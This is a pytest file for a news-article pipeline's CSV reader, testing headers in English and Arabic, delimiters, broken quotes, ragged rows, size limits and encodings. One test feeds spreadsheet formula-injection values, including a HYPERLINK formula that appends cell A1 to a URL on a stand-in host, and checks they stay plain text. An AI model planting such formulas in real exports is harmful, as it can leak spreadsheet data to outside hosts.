from pathlib import Path

import pytest

from pipeline.read import read_path
from pipeline.records import Article
from tests.pipeline.read.reading import (
    FIXTURES,
    articles,
    only_article,
    only_refusal,
    read_all,
    read_bytes,
    refusals,
    refused_lines,
)


def test_columns_are_known_by_their_usual_names() -> None:
    article = only_article(read_all(FIXTURES / "media.csv"))
    assert article.text == 'Blast in Tuz\n\nA blast hit Tuz Khurmatu, "police" said.'
    assert (article.source, article.published, article.url) == (
        "Shafaq News",
        "2024-05-01",
        "https://example.org/7",
    )


def test_arabic_headers_and_the_arabic_semicolon_are_read() -> None:
    article = only_article(read_all(FIXTURES / "arabic-headers.csv"))
    assert (article.title, article.source, article.published) == ("حريق في خانقين", "واع", "2024-05-12")
    assert article.body == "اندلع حريق في سوق خانقين؛ ولا ضحايا.\nوسيطر الدفاع المدني عليه."


@pytest.mark.parametrize("delimiter", [",", ";", "\t", "|", "؛"])
def test_the_delimiter_is_the_one_that_parts_known_names(tmp_path: Path, delimiter: str) -> None:
    data = delimiter.join(["id", "Title", "Full Text"]) + "\n" + delimiter.join(["1", "Blast", "In Tuz"])
    assert only_article(read_bytes(tmp_path, data.encode(), "a.csv")).text == "Blast\n\nIn Tuz"


def test_a_table_is_known_by_its_header_whatever_its_ending(tmp_path: Path) -> None:
    assert only_article(read_bytes(tmp_path, b"title,text\nBlast,In Tuz\n", "a.txt")).title == "Blast"


def test_an_unclosed_quote_costs_its_own_line_and_no_other(tmp_path: Path) -> None:
    found = read_bytes(tmp_path, b'id,text,url\n1,one,u\n2,"two,u\n3,three,u\n4,four,u\n', "a.csv")
    assert refused_lines(found) == [("3", "quote")]
    assert [one.text for one in articles(found)] == ["one", "three", "four"]


def test_a_quote_that_ends_within_a_field_is_refused_by_line(tmp_path: Path) -> None:
    found = read_bytes(tmp_path, b'id,text\n1,"a" b\n2,two\n', "a.csv")
    assert refused_lines(found) == [("2", "quote")]
    assert [one.text for one in articles(found)] == ["two"]


def test_a_file_of_broken_quotes_is_given_up_and_says_so(tmp_path: Path) -> None:
    found = read_bytes(tmp_path, b"id,text\n" + b'1,"a" b\n' * 150, "a.csv")
    assert len(found) == 101
    assert "the rest of the file was not read" in refusals(found)[-1].message


@pytest.mark.parametrize("row", [b"2,two", b"2,two,u,more"])
def test_a_ragged_row_is_refused_by_line(tmp_path: Path, row: bytes) -> None:
    found = read_bytes(tmp_path, b"id,text,url\n1,one,u\n" + row + b"\n3,three,u\n", "a.csv")
    assert refused_lines(found) == [("3", "ragged")]
    assert len(articles(found)) == 2


def test_line_numbers_count_lines_and_not_rows(tmp_path: Path) -> None:
    found = read_bytes(tmp_path, b'id,text\n1,"a\nb\nc"\n\n2\n', "a.csv")
    assert articles(found)[0].origin.endswith("a.csv:2")
    assert refused_lines(found) == [("6", "ragged")]


def test_a_field_of_a_megabyte_is_taken_and_one_beyond_the_limit_refused_alone(tmp_path: Path) -> None:
    data = b"id,text\n1," + b"x" * (1 << 20) + b"\n2," + b"y" * (17 << 20) + b"\n3,three\n"
    found = read_bytes(tmp_path, data, "a.csv")
    assert [len(one.text) for one in articles(found)] == [1 << 20, 5]
    assert refused_lines(found) == [("3", "size")]


def test_formulas_are_text_and_stay_as_they_are(tmp_path: Path) -> None:
    cells = ['=HYPERLINK(""http://x?""&A1)', "@SUM(1)", "+cmd", "\t=1"]
    data = "id,text\n" + "\n".join(f'1,"{cell}"' for cell in cells)
    found = articles(read_bytes(tmp_path, data.encode(), "a.csv"))
    assert [one.text for one in found] == [cell.replace('""', '"') for cell in cells]


@pytest.mark.parametrize(
    ("header", "what"),
    [
        (b"a,b", "no column is named text"),
        (b"text,text", "two columns are named 'text'"),
        (b"id", "no column"),
    ],
)
def test_a_header_that_does_not_say_where_the_text_is_refuses_the_file(
    tmp_path: Path, header: bytes, what: str
) -> None:
    refusal = only_refusal(read_bytes(tmp_path, header + b"\n1,2\n", "a.csv"))
    assert refusal.code == "header"
    assert what in refusal.message


def test_a_damaged_cell_costs_its_row(tmp_path: Path) -> None:
    found = read_bytes(tmp_path, "id,text\n1,كركوك\n".encode() + b"2,\xd9\n3,three\n", "a.csv")
    assert refused_lines(found) == [("3", "encoding")]
    assert len(articles(found)) == 2


def test_a_table_in_windows_1256_is_read(tmp_path: Path) -> None:
    data = "العنوان,النص\nحريق في خانقين,اندلع حريق كبير في سوق خانقين مساء الأحد\n".encode("cp1256")
    assert only_article(read_bytes(tmp_path, data, "a.csv")).encoding == "windows-1256"


def test_columns_are_known_by_the_names_the_user_gives(tmp_path: Path) -> None:
    path = tmp_path / "a.csv"
    path.write_text("nr;Beitrag;title;text\n1;In Tuz;Blast;not this\n", "utf-8")
    columns = {"text": "beitrag", "source": "title"}
    (article,) = read_path(path, columns=columns)
    assert isinstance(article, Article)
    assert (article.text, article.source) == ("In Tuz", "Blast")


def test_a_column_named_that_is_not_there_leaves_the_field_empty(tmp_path: Path) -> None:
    path = tmp_path / "a.csv"
    path.write_text("title,text\nBlast,In Tuz\n", "utf-8")
    (article,) = read_path(path, columns={"text": "nowhere"})
    assert isinstance(article, Article)
    assert (article.text, article.flags) == ("Blast", ("title-only",))


def test_a_table_without_a_text_says_how_to_name_it(tmp_path: Path) -> None:
    refusal = only_refusal(read_bytes(tmp_path, b"nr,beitrag\n1,In Tuz\n", "a.csv"))
    assert refusal.message.endswith("or say which it is: --column text=NAME")
